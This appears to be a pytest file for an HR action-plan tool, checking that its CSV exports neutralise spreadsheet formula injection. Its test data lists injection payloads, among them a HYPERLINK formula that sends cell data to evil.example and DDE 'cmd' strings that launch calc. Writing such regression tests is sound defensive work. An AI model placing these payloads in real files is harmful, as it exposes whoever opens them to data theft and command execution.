"""Issue 18, third finding: CSV exports wrote `=HYPERLINK(…)`, `+cmd|…` and `@SUM` cells verbatim
(OWASP CSV injection). Every CSV writer neutralises them now; numbers stay numbers."""
from __future__ import annotations

import csv
import io
import re

import pytest

from hrcoord.actionplans.reports.common import to_csv
from hrcoord.render.safe import csv_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"klikk")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def set_title(path, title: str) -> None:
    text = path.read_text(encoding="utf-8")
    old = re.search(r"(?m)^title: .*$", text).group(0)
    path.write_text(text.replace(old, "title: " + _yaml_str(title), 1), encoding="utf-8")


def _yaml_str(s: str) -> str:
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


@pytest.mark.parametrize("formula", FORMULAS)
def test_judgment_list_csv_neutralises_formula_cells(cli, scratch_repo, formula):
    path = sorted((scratch_repo / "data" / "judgments").glob("*/*.md"))[0]
    set_title(path, formula)
    r = cli(["--repo", scratch_repo, "judgment", "list", "--format", "csv"])
    if "\r" in formula:  # a carriage return is no text of a title: refused before any output
        assert r.exit_code == 1 and "HR103" in r.stderr and r.stdout == "", r.stderr
        return
    assert r.exit_code == 0, r.stderr
    table = rows(r.stdout)
    title = table[0].index("title")
    cell = next(row[title] for row in table[1:] if row[0] == path.stem)
    assert cell == "'" + formula


@pytest.mark.parametrize("formula", FORMULAS[:4])
def test_measure_list_and_report_csv_neutralise_formula_cells(cli, scratch_repo, formula):
    path = sorted((scratch_repo / "data" / "measures").glob("*/*.yaml"))[0]
    set_title(path, formula)
    for args in (["measure", "list"], ["report", "action-plan", "--year", "2014"]):
        r = cli(["--repo", scratch_repo, *args, "--format", "csv"])
        assert r.exit_code == 0, r.stderr
        table = rows(r.stdout)
        cells = [row[table[0].index("title")] for row in table[1:]]
        assert "'" + formula in cells and formula not in cells, args


def test_numbers_stay_numbers():
    text = to_csv(["name", "change", "share", "note"], [["a", -3, -2.5, "-3"], ["b", 4, 0.5, "-2.5"]])
    assert rows(text) == [["name", "change", "share", "note"], ["a", "-3", "-2.5", "-3"], ["b", "4", "0.5", "-2.5"]]
    assert [csv_cell(v) for v in (-3, -2.5, "-3", "+47", "1e5", "-1,5")] == [-3, -2.5, "-3", "+47", "1e5", "-1,5"]


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@A1", "\tx", "\rx", "\uff1d1+1", "\n=1"])
def test_every_formula_start_is_neutralised(text):
    assert csv_cell(text) == "'" + text


def test_ordinary_text_is_left_as_it_is():
    for text in ("Tiltak 12", "Rantsev v. Cyprus and Russia", "ECHR 4", "2014-12-31", "", "a = b", "ola@udi.no"):
        assert csv_cell(text) == text
